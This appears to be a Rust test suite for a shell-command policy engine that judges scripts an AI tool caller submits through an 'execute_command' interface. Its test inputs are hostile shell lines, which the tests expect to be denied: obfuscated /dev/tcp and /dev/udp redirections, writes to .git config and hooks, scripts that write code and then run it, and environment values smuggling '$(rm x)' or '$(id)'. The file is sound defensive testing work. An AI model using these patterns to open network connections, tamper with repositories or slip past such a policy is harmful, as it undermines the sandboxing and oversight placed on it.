//! Redirections: where one may lead, and what a text may write before it runs something.

use crate::ground;
use crate::host::MadeUpHost;
use runward_core::facts::{Abilities, Containment};
use runward_core::plan::{Leave, RunId, draft};
use runward_core::policy::{Decision, Policy, Redirecting, Ruling, judge};
use runward_core::resolve::{Defaults, resolve};
use runward_core::spec::{Caller, CommandSpec, Door};

fn host() -> MadeUpHost {
    let host = MadeUpHost::unix().env("PATH", "/usr/bin");
    let names = ["bash", "cat", "git", "python3", "ls", "sort"];
    let host = names.iter().fold(host, |host, name| host.program(&format!("/usr/bin/{name}")));
    host.program("/home/u/app/run.sh").folder("/home/u/app/sub").folder("/home/u/app/.git")
}

fn judged(redirect: Redirecting, script: &str) -> Ruling {
    let host = host();
    let list = "bash,cat,git,python3,ls,sort,echo,cd,./run.sh,printf";
    let policy = Policy { redirect, ..Policy::allow_commands(list) }.found(host.facts(), &host);
    let command = resolve(&CommandSpec::shell(script), host.facts(), &Defaults::default(), &host).unwrap();
    judge(&policy, &command, &Caller::tool(Door::Mcp, "execute_command"), &ground(&host))
}

fn allows(redirect: Redirecting, script: &str) -> bool {
    judged(redirect, script).decision() == Decision::Allow
}

fn hint(script: &str) -> String {
    let ruling = judged(Redirecting::None, script);
    let host = host();
    let command = resolve(&CommandSpec::shell(script), host.facts(), &Defaults::default(), &host).unwrap();
    let abilities = Abilities { containment: vec![Containment::Subreaper], ..Abilities::default() };
    let caller = Caller::tool(Door::Mcp, "execute_command");
    match draft(RunId(uuid::Uuid::nil()), command, caller, ruling, &abilities).unwrap().leave() {
        Leave::Refused(refusal) => refusal.view().hint.unwrap_or_default(),
        other => panic!("{script}: {other:?}"),
    }
}

#[test]
fn p04_a_target_that_is_only_known_when_it_runs_must_not_be_able_to_connect() {
    for script in [
        "x=/dev/tcp/127.0.0.1/9; echo secret < $x >&0",
        "cat < $(cat addr)",
        "cat < \"$f\"",
        "cat < $f",
        "cat <> \"$f\"",
        "cat 3< \"$f\"",
        "cat {fd}< \"$f\"",
        "exec 3<> \"$f\"",
        "exec 3< /dev/tcp/$h/80",
        "cat < /dev/tcp/h/80",
        "cat < \"/dev/tcp/h/80\"",
        "cat < /dev/\"udp\"/h/80",
        "cat < $'/dev/tcp/h/80'",
        "cat < /de\\v/tcp/h/80",
        "cat < /dev/t${x}p/h/80",
        "cat < /dev/tc?/h/80",
        "cat < /dev/[t]cp/h/80",
        "cat < /dev/{tcp,}/h/80",
        "cat < /{dev,}/tcp/h/80",
        "cat < {/dev/tcp/h/80,}",
        "cat < /$x",
        "cat < /dev$x",
        "cat < \"${x}\"/tcp/h/80",
        "cat < `cat addr`",
        "read x < $f",
        "mapfile x < $f",
        "y=$(< $f)",
        "while read l; do ls; done < \"$f\"",
        "for f in *; do cat < \"$f\"; done",
        "{ cat; } < $f",
        "(cat) < $f",
        "f() { cat; } < $x; f",
        "if cat < $f; then ls; fi",
        "[[ -n $x ]] < $f",
        "cat <(cat < $f)",
        "cat <<E\n$(cat < $f)\nE",
        "bash -c 'cat < \"$1\"' x /dev/tcp/h/80",
        "trap 'cat < $f' EXIT",
        "cat >& /dev/tcp/h/80",
        "cat &> /dev/udp/h/80",
        "cat >> /dev/tcp/h/80",
    ] {
        for redirect in [Redirecting::None, Redirecting::Workspace, Redirecting::Any] {
            assert!(!allows(redirect, script), "{redirect:?}: {script}");
        }
    }
    for script in ["echo x > \"$f\"", "echo x > $f", "echo x &> $f", "echo x >> \"/$f\"", "exec > $f"] {
        assert!(!allows(Redirecting::Any, script), "{script}");
    }
}

#[test]
fn p04_a_beginning_that_leads_elsewhere_is_enough() {
    for script in [
        "cat < ./\"$f\"",
        "cat < ./$f",
        "cat < src/$f",
        "cat < \"src/$f\"",
        "cat < ~/notes",
        "cat < ~/\"$f\"",
        "cat < /dev/null",
        "cat < /dev/fd/$n",
        "cat < /home/$f",
        "while read -r l; do echo \"$l\"; done < ./\"$f\"",
        "cat <<< \"$f\"",
        "cat < f",
        "cat 2>&1 < f",
    ] {
        assert!(allows(Redirecting::None, script), "{script}");
    }
    assert!(allows(Redirecting::Any, "echo x > ./\"$f\"; echo y > out/$f; echo z > /tmp/$f"));
    let told = hint("while read -r l; do echo \"$l\"; done < \"$f\"");
    assert!(told.contains("< ./\"$f\"") && told.contains("cat -- \"$f\""), "{told}");
}

#[test]
fn p05_what_others_obey_is_no_target() {
    for target in [
        ".git/config",
        "./.git/config",
        "sub/.git/hooks/x",
        ".GIT/config",
        ".git",
        "sub/.git",
        "/home/u/app/.git/config.worktree",
        ".git/commondir",
        ".runward.toml",
        "sub/.runward.toml",
        ".gitmodules",
        ".gitattributes",
        "sub/../.git/config",
        "'.git'/config",
    ] {
        for script in
            [format!("echo x > {target}"), format!("echo x >> {target}; git status"), format!(": > {target}")]
        {
            assert!(!allows(Redirecting::Workspace, &script), "{script}");
        }
        assert!(!allows(Redirecting::Any, &format!("echo x > {target}; git status")), "{target}");
        assert!(allows(Redirecting::Any, &format!("echo x > {target}")), "{target}");
    }
    for target in ["git", ".gitignore", "sub/x.git", "notes.git.txt", ".github"] {
        assert!(allows(Redirecting::Workspace, &format!("echo x > {target}; git status")), "{target}");
    }
}

#[test]
fn p05_a_text_does_not_run_what_it_writes() {
    for script in [
        "echo evil > x.sh; bash x.sh",
        "echo evil > x.sh && bash ./x.sh",
        "echo evil > sub/x.sh; bash sub/../sub/x.sh",
        "cd sub; echo evil > x; bash x",
        "cd \"$d\"; echo evil > x; bash sub/x",
        "echo evil > x; f=x; bash \"$f\"",
        "echo evil > x.py; python3 -W ignore x.py",
        "bash x.sh; echo evil > x.sh",
        "echo evil > run.sh; ./run.sh",
        "echo evil >> run.sh; ./run.sh",
        "{ echo evil; } > run.sh; ./run.sh",
        "echo evil | cat > x; bash -e x",
    ] {
        assert!(!allows(Redirecting::Workspace, script), "{script}");
        assert!(!allows(Redirecting::Any, script), "{script}");
    }
    for script in [
        "ls > out; cat out",
        "ls > out.json; python3 parse.py out.json",
        "bash x.sh > out",
        "./run.sh > log 2>&1",
        "sort in > out; bash -c 'cat out'",
        "bash ./\"$f\" > /dev/null",
    ] {
        assert!(allows(Redirecting::Workspace, script), "{script}");
    }
}

#[test]
fn what_the_environment_holds_is_not_evaluated() {
    let judged = |name: &str, value: &str, script: &str| {
        let host = host().env(name, value);
        let policy = Policy::allow_commands("echo");
        let command =
            resolve(&CommandSpec::shell(script), host.facts(), &Defaults::default(), &host).unwrap();
        judge(&policy, &command, &Caller::tool(Door::Mcp, "execute_command"), &ground(&host)).decision()
    };
    assert_eq!(judged("n", "a[$(rm x)]", "echo $((n+1))"), Decision::Deny);
    assert_eq!(judged("n", "b", "[[ $n -gt 1 ]]"), Decision::Deny);
    assert_eq!(judged("n", "b", "echo ${a[n]}"), Decision::Deny);
    assert_eq!(judged("n", " 5 ", "echo $((n+1))"), Decision::Allow);
    assert_eq!(judged("m", "a[$(rm x)]", "echo $((n+1))"), Decision::Allow);
    for script in ["bash -c 'echo $((n+1))'", "n='a[$(id)]' bash -c 'echo $((n))'", "env n=x bash -c '((n))'"]
    {
        let host = host();
        let policy = Policy::allow_commands("echo,bash,env");
        let command =
            resolve(&CommandSpec::shell(script), host.facts(), &Defaults::default(), &host).unwrap();
        let ruling = judge(&policy, &command, &Caller::tool(Door::Mcp, "execute_command"), &ground(&host));
        assert_eq!(ruling.decision(), Decision::Deny, "{script}");
    }
}

#[test]
fn variables_in_small_letters_are_the_texts_own() {
    for script in [
        "path=src; ls \"$path\"",
        "manifest=x; home=y; shell=z; editor=e; ls",
        "for path in *; do ls -- \"$path\"; done",
    ] {
        assert!(allows(Redirecting::None, script), "{script}");
    }
    for script in ["npm_config_script_shell=x ls", "PATH=x; ls", "Path=x; ls", "export MANPAGER=x; ls"] {
        assert!(!allows(Redirecting::None, script), "{script}");
    }
}
